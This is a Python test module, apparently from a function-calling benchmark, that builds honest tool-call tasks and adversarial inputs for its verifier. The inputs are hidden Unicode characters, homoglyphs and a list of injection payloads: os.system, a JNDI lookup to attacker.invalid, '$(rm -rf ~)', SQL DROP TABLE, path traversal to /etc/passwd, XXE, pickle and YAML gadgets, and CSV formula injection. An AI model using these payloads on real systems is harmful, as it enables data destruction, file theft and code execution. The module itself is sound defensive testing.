"""What attacks are made of: a record, honest tasks to attack, and characters that hide.

Every attack says itself, by how it was made, what must come out; nothing here asks the code under attack.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from random import Random
from typing import Any

ZERO_WIDTH = "\u200b\u200c\u200d\u2060\u2061\ufeff\u00ad\u180e\u034f"
BIDI = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
HIDDEN = ZERO_WIDTH + BIDI
LOOKALIKES = str.maketrans("aceiopsxyn_", "асеіорѕху\u0578\uff3f")
PAYLOADS = (
    "__import__('os').system('id')", "{0.__class__.__mro__}", "{{7*7}}", "{% include '/etc/passwd' %}",
    "${jndi:ldap://attacker.invalid/a}", "%s%s%s%n", "'; DROP TABLE tasks; --", "$(rm -rf ~)", "`id`",
    "../../../../etc/passwd", "file:///etc/passwd", "http://attacker.invalid/x", "<script>alert(1)</script>",
    "!!python/object/apply:os.system ['id']", "cos\nsystem\n(S'id'\ntR.", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "=cmd|' /C calc'!A0", "\u001b]0;owned\u0007",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Attack:
    """One line for `verify` or `score`, and what must come out: these keys, each with one of these values."""

    kind: str
    verb: str
    row: dict[str, Any]
    expected: dict[str, tuple[Any, ...]]

    @property
    def line(self) -> bytes:
        return json.dumps(self.row).encode("ascii")


@dataclass(frozen=True, slots=True)
class Honest:
    """A task that every check passes. `value`: the place (call, name) of a string that no default equals."""

    name: str
    question: str
    tools: list[dict[str, Any]]
    calls: list[dict[str, Any]]
    value: tuple[int, str] | None = None
    number: tuple[int, str] | None = None
    fields: dict[str, Any] = field(default_factory=dict)

    @property
    def gold(self) -> str:
        return json.dumps(self.calls)

    @property
    def row(self) -> dict[str, Any]:
        return {"question": self.question, "tools": self.tools, "calls": self.calls, **self.fields}

    def changed(self, place: tuple[int, str], value: Any) -> list[dict[str, Any]]:
        """The gold with another value at one place."""
        calls: list[dict[str, Any]] = json.loads(self.gold)
        calls[place[0]]["arguments"][place[1]] = value
        return calls


Family = Callable[[Random, Honest], Iterator[Attack]]


def tool(name: str, description: str, /, required: tuple[str, ...] = (), **properties: Any) -> dict[str, Any]:
    schema = {"type": "object", "properties": properties, "required": list(required)}
    return {"name": name, "description": description, "parameters": schema}


def call(name: str, /, **arguments: Any) -> dict[str, Any]:
    return {"name": name, "arguments": arguments}


def hide(rng: Random, text: str, marks: str = HIDDEN) -> str:
    """The text with one hidden character between two of its own."""
    place = rng.randrange(1, len(text))
    return text[:place] + rng.choice(marks) + text[place:]


TEXT, INTEGER = {"type": "string"}, {"type": "integer"}
_WEATHER = tool("get_weather", "Weather of a city.", ("city",), city=TEXT, days=INTEGER,
                unit={"type": "string", "enum": ["celsius", "fahrenheit"], "default": "celsius"})  # fmt: skip
_BOOK = tool("book_table", "Reserve a restaurant table.", ("restaurant", "guests"), restaurant=TEXT, guests=INTEGER)
_FIND = tool("find_user", "Find a user by name.", ("name",), name=TEXT)
_SEND = tool("send_message", "Send a message to a user.", ("user_id", "text"), user_id=INTEGER, text=TEXT)
_PING = tool("ping_server", "Check that the server answers.")
_TAG = tool("label_note", "Put labels on a note.", ("labels",), note=INTEGER,
            labels={"type": "array", "items": TEXT, "uniqueItems": True})  # fmt: skip
_MEET = tool("create_meeting", "Put a meeting in the calendar.", ("title",), title=TEXT, minutes=INTEGER,
             guests={"type": "array", "items": {"type": "object", "properties": {"email": TEXT}}})  # fmt: skip

TASKS = (
    Honest("single", "How will the weather be in Lisbon for the next 3 days?", [_WEATHER, _BOOK],
           [call("get_weather", city="Lisbon", days=3)], (0, "city"), (0, "days")),
    Honest("parallel", "Weather in Oslo please, and a table for 7 at Trattoria Verde.", [_WEATHER, _BOOK],
           [call("get_weather", city="Oslo"), call("book_table", restaurant="Trattoria Verde", guests=7)],
           (1, "restaurant"), (1, "guests")),
    Honest("dependent", "Find the user Ada Lovelace and send her the message good morning.", [_FIND, _SEND],
           [call("find_user", name="Ada Lovelace"),
            call("send_message", user_id="$var_1.id", text="good morning")], (1, "text")),
    Honest("bare", "Is the server still answering?", [_PING, _WEATHER], [call("ping_server")]),
    Honest("set", "Put the labels urgent, family and travel on note 42.", [_TAG, _PING],
           [call("label_note", labels=["urgent", "family", "travel"], note=42)], None, (0, "note")),
    Honest("nested", "A meeting called Budget review for 45 minutes with ann@example.org.", [_MEET, _PING],
           [call("create_meeting", title="Budget review", minutes=45, guests=[{"email": "ann@example.org"}])],
           (0, "title"), (0, "minutes")),
    Honest("abstain", "How will the weather be in Porto?", [_BOOK, _PING], [],
           fields={"unanswerable": {"removed": _WEATHER, "calls": [call("get_weather", city="Porto")]}}),
)  # fmt: skip
